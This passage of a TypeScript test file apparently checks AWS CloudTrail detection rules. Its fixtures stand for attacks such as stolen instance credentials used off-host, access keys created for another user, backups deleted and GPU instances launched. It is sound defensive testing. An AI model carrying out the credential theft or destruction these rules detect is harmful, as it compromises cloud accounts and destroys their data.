      silent('S3 lifecycle rule expires objects within a week', panther('AWS.CloudTrail.ShortLifecycle', 'Disabled 1-Day Lifecycle Rule on Known CT Bucket'));
      silent('S3 lifecycle rule expires objects within a week', panther('AWS.CloudTrail.ShortLifecycle', '730-Day Lifecycle Rule on Known CT Bucket'));
      fires('EC2 instances terminated', panther('AWS.Modify.Cloud.Compute.Infrastructure', 'Terminate Instance from AssumedRole'));
      silent('EC2 instances terminated', panther('AWS.Modify.Cloud.Compute.Infrastructure', 'Terminate Instance from autoscaling'));
      const rds = fires('RDS database deleted', panther('AWS.RDS.InstanceDeletion', 'RDS Instance Deleted Without Final Snapshot - Critical'));
      assert.match(rds.output ?? '', /skip_final_snapshot=true delete_backups=true/);
      silent('RDS database deleted', panther('AWS.RDS.InstanceDeletion', 'RDS Deletion Failed - Access Denied'));
      fires('Backup or snapshot deleted', panther('AWS.RDS.SnapshotDeleted', 'DB Snapshot Deleted'));
      fires('Backup or snapshot deleted', panther('AWS.RDS.AutomatedBackupDeleted', 'Automated Backup Deleted'));
      silent('Backup or snapshot deleted', panther('AWS.RDS.SnapshotDeleted', 'Snapshot Deletion Failed'));
    });

    it('flags identity abuse: no-MFA and root sign-ins, keys for others, stolen instance credentials', (t) => {
      fires('Root user activity', trail('iam.amazonaws.com', 'CreateAccessKey', null, { userIdentity: { type: 'Root', principalId: '111122223333', arn: 'arn:aws:iam::111122223333:root', accountId: '111122223333' } }));
      silent('Root user activity', trail('s3.amazonaws.com', 'GetBucketAcl', { bucketName: 'x' }, { userIdentity: { type: 'Root', principalId: '111122223333', arn: 'arn:aws:iam::111122223333:root', accountId: '111122223333', invokedBy: 'cloudtrail.amazonaws.com' }, sourceIPAddress: 'cloudtrail.amazonaws.com' }));
      // Instance credentials used from a Mac, and for IAM enumeration; the instance's own calls are not.
      const instance = assumedRole('eks-node-role', 'i-0abc123def4567890', { ec2RoleDelivery: '2.0' });
      fires('Instance credentials used from outside the instance', trail('s3.amazonaws.com', 'ListBuckets', {}, { userIdentity: instance, readOnly: true }));
      fires('Instance credentials used from outside the instance', trail('ec2.amazonaws.com', 'DescribeInstances', {}, { userIdentity: instance, readOnly: true, userAgent: 'aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/macos#23.4.0 md/arch#arm64 lang/python#3.11.8' }));
      silent('Instance credentials used from outside the instance', trail('ec2.amazonaws.com', 'DescribeInstances', {}, { userIdentity: instance, readOnly: true, userAgent: 'aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.156.0' }));
      silent('Instance credentials used from outside the instance', trail('sts.amazonaws.com', 'GetCallerIdentity', {}, { userIdentity: instance, readOnly: true }));
      silent('Instance credentials used from outside the instance', trail('s3.amazonaws.com', 'ListBuckets', {}, { userIdentity: assumedRole('DevAdministrator', 'alice@example.com'), readOnly: true }));
      silent('Credentials created for another IAM user', trail('iam.amazonaws.com', 'CreateAccessKey', { userName: 'mallory' }));
      if (!requireCorpus(t)) return;
      fires('Console login without MFA', panther('AWS.Console.LoginWithoutMFA', 'No MFA Login - IAM User'));
      silent('Console login without MFA', panther('AWS.Console.LoginWithoutMFA', 'MFA Login - SAML'));
      fires('Root user activity', panther('AWS.Console.RootLogin', 'Successful Root Login'));
      fires('Credentials created for another IAM user', panther('AWS.IAM.Backdoor.User.Keys', 'user1 create keys for user2'));
      silent('Credentials created for another IAM user', panther('AWS.IAM.Backdoor.User.Keys', 'user1 create keys for user1'));
      silent('Credentials created for another IAM user', panther('AWS.IAM.Backdoor.User.Keys', 'CreateKey returns error code'));
      silent('Credentials created for another IAM user', panther('AWS.User.Login.Profile.Modified', 'ChangeOwnPassword'));
      silent('Instance credentials used from outside the instance', panther('AWS.CloudTrail.IMDSCredentialExfiltration', 'Legitimate SSM Activity'));
    });

    it('flags GPU and huge instance launches, including refused attempts, not dry runs or scaling groups', (t) => {
      const run = (instanceType: string, fields: JsonObject = {}): JsonObject => trail('ec2.amazonaws.com', 'RunInstances', { instanceType, instancesSet: { items: [{ imageId: 'ami-0abcdef1234567890', minCount: 1, maxCount: 20 }] } }, fields);
      const s = fires('GPU or very large EC2 instance launched', run('p4d.24xlarge'));
      assert.match(s.output ?? '', /count up to 20/);
      fires('GPU or very large EC2 instance launched', run('c7i.48xlarge', { errorCode: 'Client.UnauthorizedOperation', errorMessage: 'not authorized' }));
      silent('GPU or very large EC2 instance launched', run('m7i.large'));
      silent('GPU or very large EC2 instance launched', run('g5.12xlarge', { errorCode: 'Client.DryRunOperation', errorMessage: 'Request would have succeeded' }));
      if (!requireCorpus(t)) return;
      silent('GPU or very large EC2 instance launched', panther('AWS.EC2.LaunchUnusualEC2Instances', 'Successful Unusual EC2'));
    });
  });

  it('has exercised every rule in a positive case above', () => {
    const missing = SET.rules.map((r) => r.name).filter((n) => !EXERCISED.has(n));
    assert.deepEqual(missing, []);
  });
});
